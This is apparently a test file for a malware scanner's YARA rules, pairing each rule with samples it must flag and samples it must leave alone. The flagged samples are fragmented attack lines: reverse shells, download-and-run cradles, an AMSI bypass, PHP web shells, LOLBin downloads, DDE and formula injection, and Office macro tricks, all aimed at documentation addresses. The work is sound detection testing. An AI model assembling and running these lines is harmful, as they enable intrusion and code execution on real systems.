// The built-in rules, each with what it must find and what it must leave alone, through both bindings.
// Samples are harmless (addresses for documentation only) and in pieces, so that this file is none itself.
import { Buffer } from 'node:buffer';
import { readdirSync, readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { describe, expect, test } from 'vitest';
import { loadYaraEngine } from '../../src/core/engines/yara/yara-engine.ts';
import { readRuleSource } from '../../src/core/engines/yara/rule-names.ts';
import { silentLogger } from '../../src/core/logger.ts';

const rulesFolder = fileURLToPath(new URL('../../assets/rules', import.meta.url));
const native = loadYaraEngine({ paths: [rulesFolder], binding: 'native', logger: silentLogger });
const wasm = loadYaraEngine({ paths: [rulesFolder], binding: 'wasm', logger: silentLogger });

interface RuleCase {
  readonly finds: readonly Buffer[];
  readonly leaves: readonly Buffer[];
}

function text(...pieces: string[]): Buffer {
  return Buffer.from(pieces.join(''), 'latin1');
}

function wide(...pieces: string[]): Buffer {
  return Buffer.from(pieces.join(''), 'utf16le');
}

const encoded = 'QUJD'.repeat(80);
const web = 'http://';
const address = `${web}192.0.2.7`;
const eicar = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-', 'STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('');
const compoundFile = Buffer.from('d0cf11e0a1b11ae1', 'hex');
const macro = Buffer.from('417474726962757400652056425f4e616d', 'hex');
const shortcut = Buffer.concat([
  Buffer.from('4c0000000114020000000000c000000000000046', 'hex'),
  Buffer.alloc(56),
]);

function document(...pieces: string[]): Buffer {
  return Buffer.concat([compoundFile, Buffer.alloc(512), macro, text(...pieces)]);
}

function link(...pieces: string[]): Buffer {
  return Buffer.concat([shortcut, wide(...pieces)]);
}

const equation = Buffer.from('Equation.3').toString('hex');

const cases: Readonly<Record<string, RuleCase>> = {
  eicar_test_file: {
    finds: [text(eicar), text(eicar, '\r\n'), text(eicar, ' \t\r\n\x1a'.repeat(12))],
    leaves: [
      text(' ', eicar),
      text(eicar, 'x'),
      text(eicar, ' '.repeat(61)),
      text(eicar.slice(0, -1)),
      text('see '.repeat(5), eicar),
    ],
  },
  shell_pipes_hidden_download: {
    finds: [
      text('#!/bin/sh\ncurl -fsSL ', address, '/a.sh | ba', 'sh >/dev/null 2>&1 &\n'),
      text('wget -qO- ', address, ':8080/x|s', 'h\nunset HISTFILE\n'),
      text('(cron', 'tab -l; echo "* * * * * cu', 'rl https://pastebin.com', '/raw/abc | sh") | crontab -\n'),
    ],
    leaves: [
      text('curl -fsSL https://get.example.org/install.sh | sh\n'),
      text('curl ', address, '/install.sh | sh\n'),
      text('curl ', address, '/status > /dev/null 2>&1\ncrontab -l\n'),
    ],
  },
  shell_downloads_runs_deletes: {
    finds: [
      text(
        'cd /tmp || cd /var/run || cd /mnt\nwget ',
        address,
        '/m.mips; chmod ',
        '777 m.mips; ./m.mips; rm -',
        'rf m.mips\n',
      ),
    ],
    leaves: [
      text('cd /tmp && wget ', web, 'www.example.org/a.tar.gz && tar xf a.tar.gz && rm -rf a\n'),
      text('cd /tmp || exit 1\nwget ', address, '/a\nchmod +x a\nrm -f a\n'),
    ],
  },
  shell_reverse_connection: {
    finds: [
      text('ba', 'sh -i >& /dev/tcp/192.0.2.7/4444 0>', '&1'),
      text('ba', 'sh -i &> /dev/tcp/host.example/80 0>', '&1'),
    ],
    leaves: [text('exec 3<>/dev/tcp/192.0.2.7/80\n'), text('bash -i > log 2>&1\n')],
  },
  shell_runs_encoded_program: {
    finds: [
      text('echo "', encoded, '" | base64 -', 'd | ba', 'sh\n'),
      text('echo ', encoded, '==|base64 --decode|s', 'h'),
    ],
    leaves: [text('echo "', encoded, '" | base64 -d > picture.png\n'), text('echo QUJD | base64 -d | sh\n')],
  },
  powershell_hidden_encoded_command: {
    finds: [
      text('power', 'shell.exe -nop -w hidden -e', 'nc ', encoded),
      wide('POWER', 'SHELL -WindowStyle Hidden -Encoded', 'Command ', encoded),
    ],
    leaves: [
      text('powershell.exe -EncodedCommand ', encoded),
      text('powershell.exe -WindowStyle Hidden -File backup.ps1 -Encoding utf8'),
    ],
  },
  powershell_hidden_download: {
    finds: [
      text(
        'power',
        'shell -w hidden -c "I',
        'EX (New-Object Net.WebClient).Download',
        `String('${address}/a')"`,
      ),
      wide(
        '$x = "amsi',
        'InitFailed"; i',
        'ex ((New-Object Net.WebClient).Download',
        `String('${address}/a'))`,
      ),
    ],
    leaves: [
      text(
        'powershell -NoProfile -ExecutionPolicy Bypass -Command "iex ((New-Object System.Net.WebClient).Download',
        'String(',
        `'https://community.example.org/install.ps1'))"`,
      ),
      text('powershell -WindowStyle Hidden -File sync.ps1'),
    ],
  },
  powershell_switches_off_malware_check: {
    finds: [
      text(
        "[Ref].Assembly.GetType('System.Management.Automation.Amsi",
        "Utils').GetField('amsi",
        "InitFailed','NonPublic,Static').SetValue($",
        'null,$true)',
      ),
    ],
    leaves: [
      text('The type System.Management.Automation.Amsi', 'Utils has a field amsi', 'InitFailed.'),
      text('$property.SetValue($null, $true)'),
    ],
  },
  certutil_downloads_program: {
    finds: [
      text(
        'cert',
        'util.exe -urlcache -split -f ',
        address,
        '/a.exe %TEMP%\\a.exe && start %TEMP%\\a.exe\r\n',
      ),
    ],
    leaves: [
      text('certutil -hashfile setup.exe SHA256\r\nstart setup.exe\r\n'),
      text('certutil -urlcache * delete\r\nstart setup.exe\r\n'),
      text('certutil -urlcache -f ', web, 'crl.example.org/root.crl root.crl\r\n'),
    ],
  },
  bitsadmin_downloads_program: {
    finds: [
      text(
        'bits',
        'admin /transfer job /download /priority high ',
        address,
        '/a.exe C:\\Temp\\a.exe\r\nstart C:\\Temp\\a.exe\r\n',
      ),
    ],
    leaves: [
      text('bitsadmin /list /allusers\r\nstart setup.exe\r\n'),
      text('bitsadmin /transfer job ', web, 'www.example.org/data.csv C:\\data.csv\r\n'),
    ],
  },
  mshta_runs_remote_script: {
    finds: [
      text('ms', 'hta vbscript:Close(Execute("CreateObject(""x"")"))'),
      text('cmd.exe /c ms', 'hta ', address, '/a.hta\r\n'),
    ],
    leaves: [
      text('mshta.exe C:\\Tools\\menu.hta\r\n'),
      text('mshta opens pages such as ', web, 'www.example.org/a.'),
    ],
  },
  regsvr32_runs_remote_scriptlet: {
    finds: [text('regsvr', '32 /s /n /u /i:', address, '/a.sct scrobj.dll')],
    leaves: [
      text('regsvr32 /s C:\\Windows\\System32\\scrobj.dll'),
      text('regsvr32 /s /i:user component.dll'),
    ],
  },
  script_host_dropper: {
    finds: [
      text(
        'var x = new Active',
        'XObject("MSXML2.XML',
        'HTTP"); var s = new Active',
        'XObject("ADODB.',
        'Stream"); s.SaveTo',
        'File(p); new Active',
        'XObject("WScript.',
        'Shell").Run(p, 0);',
      ),
      wide(
        'Set x = Create',
        'Object("Microsoft.XML',
        'HTTP"): Set s = Create',
        'Object("ADODB.',
        'Stream"): s.SaveTo',
        'File p: Create',
        'Object("WScript.',
        'Shell").Run p',
      ),
    ],
    leaves: [
      text('var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", "data.xml"); x.send();'),
      text('CreateObject("WScript.Shell").Run "notepad.exe"'),
    ],
  },
  python_runs_decoded_program_with_network: {
    finds: [
      text('import base64, urllib.request\nexec(base', "64.b64decode('", encoded, "'))\n"),
      text(
        'import socket\ns = socket.socket()\nex',
        "ec(zlib.decompress(__import__('base64').b64",
        "decode(b'",
        encoded,
        "')))\n",
      ),
    ],
    leaves: [
      text("import base64, urllib.request\ndata = base64.b64decode('", encoded, "')\n"),
      text('import base64\nexec(base64.b64decode(stored))\n'),
    ],
  },
  python_reverse_shell: {
    finds: [
      text(
        's=socket.socket();s.connect(("192.0.2.7",4444));os.dup',
        '2(s.fileno(),0);os.dup',
        '2(s.fileno(),1);subprocess.call(["/bin/',
        'sh","-i"])',
      ),
    ],
    leaves: [
      text('s.connect(("www.example.org", 80))\nsubprocess.call(["/bin/sh", "build"])\n'),
      text('os.dup', '2(null.fileno(), 0)\nos.dup', '2(null.fileno(), 1)\n'),
    ],
  },
  php_runs_request_as_code: {
    finds: [
      text('<?php @ev', 'al($_PO', "ST['x']); ?>"),
      text('<?php ass', 'ert(base64_', 'decode($_RE', 'QUEST["x"])); ?>'),
    ],
    leaves: [
      text('<?php echo htmlspecialchars($_POST["x"]); assert($x > 0); ?>'),
      text('Never write eval($_', 'POST["x"]).'),
    ],
  },
  php_runs_request_as_command: {
    finds: [text('<?php sys', 'tem($_G', 'ET["c"]); ?>'), text('<?= shell_', 'exec($_RE', 'QUEST["c"]) ?>')],
    leaves: [
      text('<?php $database->exec($_', 'GET["id"]); ?>'),
      text('<?php system("uptime"); echo $_GET["c"]; ?>'),
    ],
  },
  php_runs_packed_program: {
    finds: [text('<?php ev', 'al(gzinflate(base64_', "decode('", encoded, "'))); ?>")],
    leaves: [
      text("<?php $picture = gzinflate(base64_decode('", encoded, "')); ?>"),
      text('<?php eval($code); ?>'),
    ],
  },
  shortcut_runs_powershell: {
    finds: [
      link('..\\power', 'shell.exe -w hidden -c "..."'),
      link('power', 'shell -c "iwr ', address, '/a"'),
    ],
    leaves: [link('..\\powershell.exe -NoExit -Command Get-Date'), wide('powershell.exe -w hidden -c "..."')],
  },
  shortcut_downloads_with_system_tool: {
    finds: [link('ms', 'hta.exe ', address, '/a.hta')],
    leaves: [
      link('C:\\Program Files\\Browser\\browser.exe ', web, 'www.example.org/'),
      link('rundll32.exe shell32.dll,Control_RunDLL'),
    ],
  },
  office_macro_starts_program_on_open: {
    finds: [document('Sub Auto', 'Open() Create', 'Object("WScript.', 'Shell")')],
    leaves: [
      document('Sub Document_Open() MsgBox "Welcome"'),
      document('Sub Button_Click() CreateObject("WScript.Shell")'),
      text('Sub AutoOpen() CreateObject("WScript.Shell")'),
    ],
  },
  office_macro_downloads_on_open: {
    finds: [document('Private Declare Function URLDownload', 'ToFileA Sub Workbook_', 'Open()')],
    leaves: [document('Sub Workbook_Open() Range("A1").Select'), document('URLDownloadToFileA')],
  },
  office_field_starts_program: {
    finds: [
      text('<w:instrText>DDE', 'AUTO c:\\\\windows\\\\system32\\\\cmd', '.exe "/k calc"</w:instrText>'),
      Buffer.concat([compoundFile, text('\x13DDE', ' "power', 'shell" "..."')]),
    ],
    leaves: [
      text('<w:instrText>DDEAUTO Excel "C:\\\\sheet.xlsx" R1C1</w:instrText>'),
      text('A field like DDE', 'AUTO cmd.exe is dangerous.'),
    ],
  },
  spreadsheet_formula_starts_program: {
    finds: [text('name,value\nx,=cm', "d|'/c calc'!A0\n"), text('@MSEX', "CEL|'\\..\\..\\calc'!A1\n")],
    leaves: [
      text("name,value\nx,=SUM('Sheet 1'!A1)\n"),
      text("ls | grep cmd | 'x'!\n"),
      text('\x7fELF,=cm', "d|'/c calc'!A0\n"),
    ],
  },
  office_template_from_bare_address: {
    finds: [
      text(
        '<Relationship Type="x/relationships/attached',
        'Template" Target="',
        address,
        '/t.dotm" TargetMode="External"/>',
      ),
      text('<Relationship Target="', address, '/t.dotm" Type="x/relationships/attached', 'Template"/>'),
      text('{\\rtf1{\\*\\temp', 'late ', address, '/t.rtf}'),
    ],
    leaves: [
      text(
        '<Relationship Type="x/relationships/attachedTemplate" Target="file:///C:\\Templates\\Letter.dotx"/>',
      ),
      text(
        '<Relationship Type="x/relationships/attachedTemplate" Target="https://intranet.example.org/t.dotx"/>',
      ),
    ],
  },
  office_object_from_web_page: {
    finds: [
      text(
        '<Relationship Type="x/relationships/ole',
        'Object" Target="',
        web,
        'www.example.org/a.html',
        '!" TargetMode="External"/>',
      ),
      text(
        '<Relationship Target="mhtml:',
        web,
        'www.example.org/a.html',
        '!" Type="x/relationships/ole',
        'Object"/>',
      ),
    ],
    leaves: [
      text('<Relationship Type="x/relationships/oleObject" Target="embeddings/oleObject1.bin"/>'),
      text('<Relationship Type="x/relationships/hyperlink" Target="', web, 'www.example.org/!"/>'),
    ],
  },
  rtf_equation_object_loads_itself: {
    finds: [
      text('{\\rtf1{\\object\\objemb\\obj', 'update{\\*\\objdata 0105', equation, '00}}}'),
      text('{\\rt{\\object\\obj', 'update{\\*\\objdata 02CE02', '0000000000C000000000000046}}}'),
    ],
    leaves: [
      text('{\\rtf1{\\object\\objemb{\\*\\objdata 0105', equation, '00}}}'),
      text('{\\rtf1{\\object\\objupdate{\\*\\objdata 0105000002}}}'),
    ],
  },
};

function names(bytes: Buffer): readonly string[] {
  const outcome = native.scan(bytes);
  // Whatever the sample, both bindings say the same of it, to the last byte of evidence.
  expect(wasm.scan(bytes)).toEqual(outcome);
  if (outcome.kind === 'found') return outcome.detections.map((detection) => detection.name);
  expect(outcome).toEqual({ kind: 'nothing' });
  return [];
}

describe.each(Object.entries(cases))('%s', (rule, { finds, leaves }) => {
  test.each([...finds.entries()])('finds sample %i', (_number, sample) => {
    expect(names(sample)).toContain(rule);
  });

  test.each([...leaves.entries()])('leaves alone sample %i', (_number, sample) => {
    expect(names(sample)).toEqual([]);
  });
});

describe('the built-in rules', () => {
  const declared = readdirSync(rulesFolder).flatMap(
    (name) => readRuleSource(readFileSync(`${rulesFolder}/${name}`, 'utf8')).rules,
  );
  const reported = declared.filter((rule) => !rule.isPrivate);

  test('all load through both bindings', () => {
    expect([native.report, wasm.report].map(({ state, signatures }) => ({ state, signatures }))).toEqual([
      { state: 'ready', signatures: declared.length },
      { state: 'ready', signatures: declared.length },
    ]);
  });

  test('each have samples to find and samples to leave alone', () => {
    expect(reported.map((rule) => rule.name).toSorted()).toEqual(Object.keys(cases).toSorted());
  });

  test.each(reported.map((rule) => [rule.name, Object.fromEntries(rule.meta)] as const))(
    '%s says who wrote it, what it finds, how bad that is and where to read more',
    (_name, meta) => {
      expect(meta).toEqual({
        author: 'Vedette',
        description: expect.stringMatching(/^[A-Z].{30,200}\.$/),
        severity: expect.stringMatching(/^(low|medium|high|critical)$/),
        reference: expect.stringMatching(/^https:\/\/attack\.mitre\.org\/techniques\/T\d{4}\/(\d{3}\/)?$/),
      });
    },
  );

  test('do not flag their own sources, nor this file', () => {
    const sources = [
      ...readdirSync(rulesFolder).map((name) => `${rulesFolder}/${name}`),
      fileURLToPath(import.meta.url),
    ];
    expect(sources.flatMap((path) => names(readFileSync(path)))).toEqual([]);
  });
});
